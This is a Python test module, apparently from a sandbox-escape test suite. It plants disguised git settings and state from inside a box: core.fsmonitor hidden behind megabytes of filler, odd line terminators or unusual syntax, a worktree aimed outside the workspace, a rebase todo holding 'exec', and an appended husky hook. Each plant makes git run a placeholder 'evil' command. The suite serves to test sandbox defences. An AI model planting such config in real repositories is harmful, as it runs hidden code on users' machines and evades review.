"""Settings of a new repository that read as harmless to whoever checks them, and not to git."""

from __future__ import annotations

import os

from tests.escape.attack import attack
from tests.escape.attacks.planting import plants
from tests.escape.inside import Box
from tests.escape.promises import P
from tests.escape.repositories import Project
from tests.escape.world import World

DISGUISED = "plant settings in disguise"


@plants(DISGUISED)
def hide_settings_behind_a_megabyte(top, hooks, evil, settings):
    """Whoever reads only the beginning of a file does not see its end."""
    import shutil

    for name, filler in (("long", "# nothing to see here\n"), ("wide", "\n")):
        shutil.copytree(f"{top}/vendor/lib/.git", f"{top}/{name}/.git", symlinks=True)
        with open(f"{top}/{name}/.git/config", "w") as file:
            file.write("[core]\n\tbare = false\n" + filler * ((5 << 20) // len(filler)) + settings)
    return ["long", "wide"]


@plants(DISGUISED)
def hide_a_section_in_a_comment(top, hooks, evil, settings):
    """Git ends a line at a newline alone; other readers also at a form feed or a separator."""
    import shutil

    made = []
    with open(f"{top}/included", "w") as file:
        file.write(settings)
    for number, end in enumerate(("\x0b", "\x0c", "\r", "\x1c", "\x1e", "\x85", "\u2028")):
        name = f"repository{number}"
        shutil.copytree(f"{top}/vendor/lib/.git", f"{top}/{name}/.git", symlinks=True)
        text = f'[include]\n# {end}[submodule "a"]\npath = {top}/included\n'
        with open(f"{top}/{name}/.git/config", "w", newline="", encoding="utf-8") as file:
            file.write(text)
        made.append(name)
    return made


@plants(DISGUISED)
def write_settings_in_unusual_ways(top, hooks, evil, settings):
    """Sections with a dot, keys on the line of their section, continued lines, quoted parts."""
    import shutil

    texts = [
        f"[core]fsmonitor={evil}\n",
        f"[core] bare = false\n[core]\tfsmonitor = {evil}\n",
        f"[CORE]\nFSMONITOR = {evil}\n",
        f'[core]\nbare = false ; x\nfsmoni\\\ntor = {evil}\n[core]\nfsmonitor\t= "{evil}"\n',
        f"\ufeff[core]\nfsmonitor = {evil}\n",
        f'[remote "x"]\nurl = "a\\\n[core]\nfsmonitor = {evil}\n',
        f"[core]\nbare = \\\nfalse\n\tfsmonitor = {evil}\n",
        f"[core]\r\n\tfsmonitor = {evil}\r\n",
        f"[core]\n\tbare = false\n[include]\n\tpath = {top}/included\n",
        f'[includeIf "gitdir:**"]\n\tpath = {top}/included\n',
    ]
    with open(f"{top}/included", "w") as file:
        file.write(settings)
    for number, text in enumerate(texts):
        shutil.copytree(f"{top}/vendor/lib/.git", f"{top}/unusual{number}/.git", symlinks=True)
        with open(f"{top}/unusual{number}/.git/config", "w", newline="") as file:
            file.write(text)
    return [f"unusual{number}" for number in range(len(texts))]


@attack(P.PLANTING, DISGUISED)
def lead_a_work_tree_out_of_the_workspace(world: World, box: Box) -> str:
    """A new repository says that its files are in the home directory; a checkout writes there."""
    project = Project(world)
    box.call(_work_tree_elsewhere, project.top, world.outside)
    for name in ("elsewhere", "separate"):
        for arguments in (("checkout", "-q", "-f", "HEAD"), ("reset", "-q", "--hard")):
            project.git(project.top / name, *arguments)
    return world.changed_outside()


def _work_tree_elsewhere(top, outside):
    import shutil

    for name in ("elsewhere", "separate"):
        own = f"{top}/{name}/.git"
        shutil.copytree(f"{top}/vendor/lib/.git", own, symlinks=True)
        with open(f"{own}/config", "w") as file:
            file.write(f"[core]\n\trepositoryformatversion = 0\n\tworktree = {outside}\n")
        if name == "separate":
            with open(f"{own}/config", "w") as file:
                file.write("[core]\n\trepositoryformatversion = 1\n")
                file.write("[extensions]\n\tworktreeConfig = true\n")
            with open(f"{own}/config.worktree", "w") as file:
                file.write(f"[core]\n\tworktree = {os.path.relpath(outside, own)}\n")


@attack(P.PLANTING, "plant a step of a rebase")
def plant_a_step_of_a_rebase(world: World, box: Box) -> str:
    """A rebase in the middle runs what its list of steps says, when the person goes on with it."""
    project = Project(world)
    box.call(_rebase_in_progress, project.top, project.evil)
    for place in (project.top, project.nested):
        project.git(place, "rebase", "--continue")
    return "git rebase --continue ran what was planted" if project.marker.exists() else ""


def _rebase_in_progress(top, evil):
    for place in (f"{top}/.git", f"{top}/vendor/lib/.git"):
        with open(f"{place}/refs/heads/main") as file:
            head = file.read()
        os.mkdir(f"{place}/rebase-merge")
        steps = {
            "head-name": "refs/heads/main\n",
            "onto": head,
            "orig-head": head,
            "end": "1\n",
            "msgnum": "0\n",
            "interactive": "",
            "git-rebase-todo": f"exec {evil}\n",
            "done": "",
        }
        for name, text in steps.items():
            with open(f"{place}/rebase-merge/{name}", "w") as file:
                file.write(text)


@attack(P.PLANTING, "plant .git/hooks")
def change_hooks_that_another_tool_calls(world: World, box: Box) -> str:
    """husky: `core.hooksPath = .husky/_`, and what is there calls `.husky/NAME`."""
    project = Project(world)
    wrappers = project.top / ".husky/_"
    wrappers.mkdir(parents=True)
    (wrappers / "pre-commit").write_text('#!/bin/sh\nsh "$(dirname "$0")/../pre-commit"\n')
    (wrappers / "pre-commit").chmod(0o755)
    (project.top / ".husky/pre-commit").write_text("true\n")
    project.git(project.top, "config", "core.hooksPath", ".husky/_")
    box.call(_append, project.top / ".husky/pre-commit", f"sh {project.evil}\n")
    return project.obeyed()


def _append(path, text):
    with open(path, "a") as file:
        file.write(text)
